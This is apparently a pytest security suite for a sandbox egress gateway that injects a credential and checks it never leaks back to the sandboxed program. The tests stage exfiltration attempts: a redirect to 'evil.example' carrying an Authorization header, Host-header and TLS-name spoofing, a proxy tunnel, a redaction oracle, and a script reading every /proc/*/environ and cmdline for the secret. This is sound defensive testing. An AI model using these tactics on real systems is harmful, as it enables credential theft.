"""What of a credential can be had from inside a real sandbox: its use, and never its value."""

import asyncio
import base64
import html
import json
import time
import urllib.parse
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, replace

import pytest

from paddock.adapters.egress.config import EgressConfig
from paddock.ports.egress import Credential, FlowBatch
from tests.security.egress_world import Inside as Person
from tests.security.egress_world import World, on_docker, on_local
from tests.upstreams import upstream

pytestmark = [pytest.mark.timeout(120)]

VALUE = 's3cr3t/value+with=signs&"more"'
PLACEHOLDER = "pdk-KEY-0123456789abcdef0123456789abcdef"
KEY = Credential(
    secret="KEY",
    placeholder=PLACEHOLDER,
    hosts=["api.example"],
    way="header",
    value=VALUE,
    header="Authorization",
    format="Bearer {}",
)
ALLOWED = ("api.example", "other.example", "evil.example", "stolen.example")


@dataclass
class Inside(Person):
    """A program in a sandbox that wants to know the value."""

    async def give(self, *credentials: Credential) -> None:
        mark = f"mark-{time.monotonic_ns()}"
        assert await self.world.gateway.give(self.ref.id, mark, credentials)
        assert (await self.world.gateway.marks() or {})[self.ref.id] == mark

    async def run(self, *argv: str, timeout: float = 20) -> tuple[int, str]:
        env = {"KEY": PLACEHOLDER}
        done = await self.guest.exec(list(argv), user="user", timeout=timeout, env=env)
        return done.exit_code, (done.stdout + done.stderr).decode(errors="replace")

    async def says(self, *more: str) -> str:
        code, said = await self.curl(*more)
        assert code == 0, said
        return said

    def seen(self) -> str:
        """What the servers outside were sent until now."""
        return self.world.there.seen.read_text()

    async def batch(self) -> FlowBatch:
        found = await self.world.gateway.drain({})
        assert found is not None
        await self.world.gateway.drain({found.gateway: found.number})
        return found


@pytest.fixture(
    scope="module", params=["local-crun", pytest.param("docker", marks=pytest.mark.slow)]
)
async def world(request: pytest.FixtureRequest) -> AsyncIterator[World]:
    # `stolen.example` is served by somebody whose certificate is another's.
    async with upstream("api.example", "other.example", "evil.example") as there:
        hosts = dict.fromkeys(ALLOWED, there.address)
        egress = EgressConfig(hosts=hosts, certificates=str(there.certificate))
        if request.param == "docker":
            request.getfixturevalue("base_image")
            opening = on_docker(request.getfixturevalue("engine_host"), egress)
        else:
            opening = on_local("crun", egress)
        async with opening as provider:
            yield World(provider, there)


@pytest.fixture
async def inside(world: World) -> AsyncIterator[Inside]:
    world.there.seen.write_text("")
    async with world.sandbox(*ALLOWED) as person:
        made = Inside(person.world, person.ref, person.guest)
        await made.give(KEY)
        yield made


@pytest.mark.proves("K5")
async def test_the_value_is_put_in_outside_and_taken_out_of_the_answer(inside: Inside):
    said = await inside.says("https://api.example/echo")
    assert VALUE not in said
    assert f"Bearer {VALUE}" in inside.seen()
    assert PLACEHOLDER[: len(VALUE)] in said


@pytest.mark.proves("K5")
@pytest.mark.parametrize("path", ["echo", "echo-header", "echo-chunks", "echo-slowly", "echo-gzip"])
async def test_no_answer_gives_the_value_back(inside: Inside, path: str):
    said = await inside.says("-i", "--compressed", f"https://api.example/{path}?more")
    assert VALUE in inside.seen()
    assert "api.example" in said
    assert PLACEHOLDER[:20] in said
    for form in (VALUE, VALUE[:20], "s3cr3t%2F", "s3cr3t%2f", VALUE.replace('"', '\\"')):
        assert form not in said


@pytest.mark.proves("K9", "K5")
async def test_no_spelling_of_the_value_comes_back_either(inside: Inside):
    said = await inside.says("https://api.example/echo-forms")
    assert VALUE in inside.seen()
    php, go, spelt, url, page, low, high = said.split("\n")[-7:]
    assert all("authorization" in each for each in (php, go, url, page))
    for each in (php, go):
        assert VALUE not in json.loads(each)
    assert VALUE not in spelt.encode().decode("unicode_escape")
    assert VALUE not in urllib.parse.unquote(url)
    assert VALUE not in html.unescape(page)
    for each in (low, high):
        assert VALUE.encode().hex() not in each.lower()


@pytest.mark.proves("K5")
async def test_an_answer_confirms_no_guess_of_a_value_that_was_not_put_in(inside: Inside):
    """Issue: the redactor is an oracle. It replaced every value of the sandbox, wherever."""
    other = replace(KEY, secret="OTHER", placeholder="pdk-OTHER-0", hosts=["other.example"])
    await inside.give(KEY, replace(other, value="the-value-of-another-host"))
    guess = ("-H", "X-Guess: the-value-of-another-host")
    said = await inside.says(*guess, "https://api.example/echo")
    assert "the-value-of-another-host" in said
    assert VALUE not in said
    mine = ("-H", "Authorization: Bearer mine", "-H", f"X-Guess: {VALUE}")
    said = await inside.says(*mine, "https://api.example/echo")
    assert VALUE in said, "nothing was put into this connection"


@pytest.mark.proves("K5")
async def test_an_answer_that_cannot_be_looked_at_is_refused(inside: Inside):
    said = await inside.says("-i", "https://api.example/echo-packed")
    assert "502 Bad Gateway" in said
    assert "packed as br" in said


@pytest.mark.proves("K5")
async def test_basic_authentication_is_redacted_in_base64_too(inside: Inside):
    basic = replace(KEY, way="basic", user="me")
    await inside.give(basic)
    said = await inside.says("https://api.example/echo")
    (sent,) = [each for each in inside.seen().splitlines() if "Basic " in each]
    encoded = sent.partition("Basic ")[2].partition("'")[0]
    assert base64.b64decode(encoded).decode() == f"me:{VALUE}"
    assert encoded[8:-4] not in said
    said = await inside.says("-u", f"you:{PLACEHOLDER}", "https://api.example/echo")
    encoded = inside.seen().splitlines()[-1].partition("Basic ")[2].partition("'")[0]
    assert base64.b64decode(encoded).decode() == f"you:{VALUE}"
    assert encoded[8:-4] not in said


@pytest.mark.proves("K5")
async def test_a_query_and_a_placeholder_anywhere_are_exchanged(inside: Inside):
    await inside.give(replace(KEY, way="query", parameter="key"))
    escaped = urllib.parse.quote(VALUE, safe="")
    said = await inside.says("https://api.example/echo?a=1")
    assert f"/echo?a=1&key={escaped} " in inside.seen()
    assert escaped not in said
    assert "key=pdk-KEY" in said
    await inside.says(f"https://api.example/echo?key={PLACEHOLDER}&b=2")
    assert f"/echo?key={escaped}&b=2 " in inside.seen()
    await inside.give(replace(KEY, way="placeholder"))
    header = f"X-Token: token {PLACEHOLDER}"
    await inside.says("-H", header, f"https://api.example/echo?x={PLACEHOLDER}")
    last = inside.seen().splitlines()[-1]
    assert f"/echo?x={escaped}" in last
    assert f"'token {VALUE}'" in last
    await inside.says("https://api.example/echo")
    assert VALUE not in inside.seen().splitlines()[-1]


@pytest.mark.proves("K5")
async def test_a_registrys_token_is_a_bearers_or_a_users(inside: Inside):
    await inside.give(replace(KEY, way="registry"))
    said = await inside.says("https://api.example/echo")
    assert f"'Bearer {VALUE}'" in inside.seen().splitlines()[-1]
    assert VALUE not in said
    await inside.give(replace(KEY, way="registry", user="ci"))
    said = await inside.says("-u", f"ci:{PLACEHOLDER}", "https://api.example/echo")
    encoded = inside.seen().splitlines()[-1].partition("Basic ")[2].partition("'")[0]
    assert base64.b64decode(encoded).decode() == f"ci:{VALUE}"
    assert encoded[8:-4] not in said


async def test_what_a_program_sends_of_its_own_is_left_alone(inside: Inside):
    await inside.says("-H", "Authorization: Bearer mine", "https://api.example/echo")
    assert "'Bearer mine'" in inside.seen()
    assert VALUE not in inside.seen()


@pytest.mark.proves("K5")
async def test_other_hosts_get_the_placeholder_and_their_tls_is_their_own(inside: Inside):
    code, said = await inside.run(
        "curl", "-sS", "-H", f"Authorization: Bearer {PLACEHOLDER}", "https://other.example/echo"
    )
    assert code == 60, said  # the test's authority is trusted outside only: nobody stood between
    said = await inside.says(
        "-k", "-H", f"Authorization: Bearer {PLACEHOLDER}", "https://other.example/echo"
    )
    assert f"Bearer {PLACEHOLDER}" in said
    assert VALUE not in inside.seen()
    said = await inside.says(
        "-H", f"Authorization: Bearer {PLACEHOLDER}", "http://api.example/echo"
    )
    assert f"Bearer {PLACEHOLDER}" in said
    assert VALUE not in inside.seen()


@pytest.mark.proves("K5")
async def test_a_redirect_to_an_attackers_host_carries_nothing(inside: Inside):
    where = "https://api.example/redirect?https://evil.example/echo"
    header = f"Authorization: Bearer {PLACEHOLDER}"
    await inside.says("-k", "-L", "--location-trusted", "-H", header, where)
    first, second = inside.seen().splitlines()
    assert VALUE in first
    assert "evil.example" in second
    assert VALUE not in second
    assert PLACEHOLDER in second


@pytest.mark.proves("K5")
async def test_a_host_that_does_not_prove_to_be_it_is_given_nothing(inside: Inside):
    await inside.give(replace(KEY, hosts=["stolen.example"]))
    said = await inside.says("-i", "https://stolen.example/echo")
    assert "502 Bad Gateway" in said
    assert "does not prove to be it" in said
    assert inside.seen() == ""


@pytest.mark.proves("K5")
async def test_host_and_the_name_inside_tls_have_to_agree(inside: Inside):
    said = await inside.says("-i", "-H", "Host: evil.example", "https://api.example/echo")
    assert "the request is for evil.example" in said
    assert inside.seen() == ""
    code, said = await inside.run(
        *("curl", "-sS", "-m", "8", "-k"),
        *("--connect-to", "api.example:443:evil.example:443", "https://api.example/echo"),
    )
    assert code == 35, said
    assert inside.seen() == ""


@pytest.mark.proves("K5")
async def test_a_proxys_tunnel_is_no_way_around(inside: Inside):
    proxy = ("-x", "http://127.0.0.1:3128", "-p")
    said = await inside.says(*proxy, "https://api.example/echo")
    assert VALUE in inside.seen()
    assert VALUE not in said
    assert PLACEHOLDER[:20] in said


@pytest.mark.proves("K5")
async def test_neither_environment_nor_processes_nor_error_pages_hold_it(inside: Inside):
    look = (
        "import glob\n"
        "found = []\n"
        "for name in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
        "    try: found.append(open(name, 'rb').read())\n"
        "    except OSError: pass\n"
        "print(len(found), b's3' + b'cr3t' in b''.join(found))\n"  # not its own command line
    )
    count, holds = (await inside.python(look)).split()
    assert int(count) > 4
    assert holds == "False"
    done = await inside.guest.exec(["python3", "-c", look], user="root", timeout=20)
    assert done.stdout.decode().split()[-1:] == ["False"]
    for more in ([], ["-H", "Content-Length: 1", "-H", "Transfer-Encoding: chunked"]):
        said = await inside.says("-i", "-X", "CONNECT", *more, "https://api.example/")
        assert "400 Bad Request" in said
        assert VALUE not in said


@pytest.mark.proves("K5")
async def test_a_value_that_is_missing_or_expired_is_said_who_can_fix_it(inside: Inside):
    await inside.give(replace(KEY, expires_at=time.time() - 1, remedy="ask the admins of tigers"))
    said = await inside.says("-i", "https://api.example/echo")
    assert "403 Forbidden" in said
    assert "the secret KEY has expired" in said
    assert "ask the admins of tigers" in said
    lacking = replace(KEY, value="", lacks="the secret KEY was deleted")
    await inside.give(lacking)
    said = await inside.says("-i", "https://api.example/echo")
    assert "credential_missing" in said
    assert "the secret KEY was deleted" in said
    assert inside.seen() == ""
    await inside.give(replace(lacking, way="placeholder"))
    await inside.says("https://api.example/echo")
    assert "GET /echo" in inside.seen()
    said = await inside.says("-H", f"X-Key: {PLACEHOLDER}", "https://api.example/echo")
    assert "was deleted" in said


@pytest.mark.proves("K5")
async def test_rotation_and_unbinding_hold_from_the_next_request_on(inside: Inside):
    program = (
        "import http.client, os, time\n"
        "c = http.client.HTTPSConnection('api.example', timeout=8)\n"
        "for number in range(3):\n"
        "    while not os.path.exists(f'/tmp/ask{number}'): time.sleep(0.02)\n"
        "    c.request('GET', '/echo'); print('pdk-KEY' in c.getresponse().read().decode())\n"
        "    open(f'/tmp/answered{number}', 'w')\n"
    )
    running = asyncio.create_task(inside.python(program))
    for number, then in enumerate(([replace(KEY, value="the-second-value")], [], [])):
        await inside.guest.files.write(f"/tmp/ask{number}", b"")
        await inside.until_made(f"/tmp/answered{number}")
        await inside.give(*then)
    assert (await running).split() == ["True", "True", "False"]
    first, second, third = inside.seen().splitlines()
    assert f"Bearer {VALUE}" in first
    assert "Bearer the-second-value" in second
    assert "authorization" not in third
    code, _ = await inside.run("curl", "-sS", "https://api.example/echo")
    assert code == 60  # nobody looks into it any more


@pytest.mark.proves("K5")
async def test_a_websocket_streams_without_the_value_and_ends_with_the_credential(inside: Inside):
    program = (
        "import socket, ssl\n"
        "s = ssl.create_default_context().wrap_socket("
        "socket.create_connection(('api.example', 443), 8), server_hostname='api.example')\n"
        "s.sendall(b'GET /echo HTTP/1.1\\r\\nHost: api.example\\r\\nConnection: Upgrade\\r\\n"
        "Upgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n"
        "Sec-WebSocket-Key: AAAA\\r\\n\\r\\n')\n"
        "got = b''\n"
        "while b'}' not in got: got += s.recv(4096)\n"
        "s.sendall(b'ping!'); print(got.decode(), s.recv(5)); open('/tmp/pinged', 'w')\n"
        "try: print('end', s.recv(5))\n"
        "except OSError as error: print('end', error)\n"
    )
    running = asyncio.create_task(inside.python(program))
    await _until(lambda: VALUE in inside.seen())
    await inside.until_made("/tmp/pinged")
    await inside.give(replace(KEY, value="another-value"))
    said = await running
    assert "101 Switching Protocols" in said
    assert "b'ping!'" in said
    assert VALUE not in said
    assert "pdk-KEY" in said
    assert "end" in said


async def test_answers_stream_and_large_ones_pass(inside: Inside):
    program = (
        "import time, urllib.request as r\n"
        "a = r.urlopen('https://api.example/slow?10', timeout=8)\n"
        "a.read(5); first = time.monotonic(); rest = a.read()\n"
        "print(time.monotonic() - first > 0.5, len(rest))\n"
        "print(len(r.urlopen('https://api.example/big?200', timeout=30).read()))\n"
    )
    assert (await inside.python(program)).split() == ["True", "45", str(200 * 262144)]


@pytest.mark.slow
async def test_connections_that_have_ended_leave_nothing_behind(inside: Inside):
    async with inside.world.nothing_left():
        for _ in range(5):
            await inside.says("-H", "Connection: close", "https://api.example/echo")
            await inside.says("https://api.example/echo")
            await inside.says("--http1.0", "https://api.example/echo-slowly")
            await inside.run("curl", "-sS", "-m", "0.5", "https://api.example/slow?20")


async def test_every_use_is_told_once_for_many(inside: Inside):
    await inside.batch()
    for _ in range(3):
        await inside.says("https://api.example/echo")
    batch = await inside.batch()
    (use,) = batch.uses
    assert (use.secret, use.host, use.port, use.way) == ("KEY", "api.example", 443, "header")
    assert (use.count, use.rule, use.lacks) == (3, "api.example", "")
    assert use.ref == inside.ref.id
    assert VALUE not in repr(batch)
    flows = [flow for flow in batch.flows if flow.host == "api.example"]
    assert sum(flow.connections for flow in flows) == 3


async def _until(true: Callable[[], bool]) -> None:
    async with asyncio.timeout(15):
        while not true():
            await asyncio.sleep(0.05)
